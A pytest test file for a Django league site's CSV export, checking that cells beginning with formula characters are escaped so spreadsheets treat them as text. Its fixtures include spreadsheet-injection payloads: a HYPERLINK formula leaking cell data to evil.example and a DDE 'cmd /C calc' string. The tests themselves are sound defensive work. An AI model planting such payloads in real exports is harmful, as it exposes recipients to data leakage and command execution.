"""CSV exports are safe to open in a spreadsheet (issue 11, item 9): a cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return is written as text (a leading `'`); numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from leagues.models import Fixture, Team
from marker.spreadsheet import make_safe, safe_cell, write_rows
from tests.leagues.test_publish import publish, result
from tests.links import league_reverse

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the tables")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("The Crown", "The Crown"),
        ("-2", "-2"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-1½", "-1½"),
        ("-4,310", "-4,310"),
        (-2, -2),
        (None, None),
        # Text that itself starts with an apostrophe before a formula character gets one
        # more, so the import, which takes one off, reads every name back (issue 28, 12).
        ("'=already safe", "''=already safe"),
        ("'Allo 'Allo", "'Allo 'Allo"),
    ],
)
def test_cells(cell, written):
    assert safe_cell(cell) == written


def test_make_safe_is_idempotent_and_keeps_safe_text_as_it_is():
    text = write_rows([["Team", "Diff"], [HYPERLINK, "-2"], ["Plain, with a comma", "3"]])
    assert make_safe(text) == text
    unsafe = 'Team,Diff\n"=1+1",-2\n'
    assert make_safe(unsafe) == "Team,Diff\n'=1+1,-2\n"


def test_a_team_named_like_a_formula_is_text_in_the_published_csv(
    league, django_capture_on_commit_callbacks
):
    fixture = Fixture.objects.filter(division=league.premier).order_by("id").first()
    Team.objects.filter(pk=fixture.home_id).update(name=HYPERLINK)
    Team.objects.filter(pk=fixture.away_id).update(name="@SUM(1+1)*cmd")
    result(fixture, "2", "7", 800, 2100)  # the home side's frame difference is -5
    publication = publish(league.season, league.secretary, django_capture_on_commit_callbacks)
    rows = list(csv.reader(io.StringIO(publication.csv)))
    by_team = {r[2]: r for r in rows[1:]}
    assert HYPERLINK not in by_team and "'" + HYPERLINK in by_team
    assert "'@SUM(1+1)*cmd" in by_team
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
    home = by_team["'" + HYPERLINK]
    assert home[9] == "-5.0"  # the frame difference: a number, as it was
    served = Client().get(league_reverse("publication-csv", args=[publication.pk]))
    assert served.content.decode() == publication.csv


def test_a_csv_stored_before_the_fix_is_served_safe(league, django_capture_on_commit_callbacks):
    publication = publish(league.season, league.secretary, django_capture_on_commit_callbacks)
    publication.csv = 'Division,Team,Diff\nPremier,"=HYPERLINK(""http://x"")",-3\n'
    publication.save(update_fields=["csv"])
    served = Client().get(league_reverse("publication-csv", args=[publication.pk])).content.decode()
    assert served == 'Division,Team,Diff\nPremier,"\'=HYPERLINK(""http://x"")",-3\n'
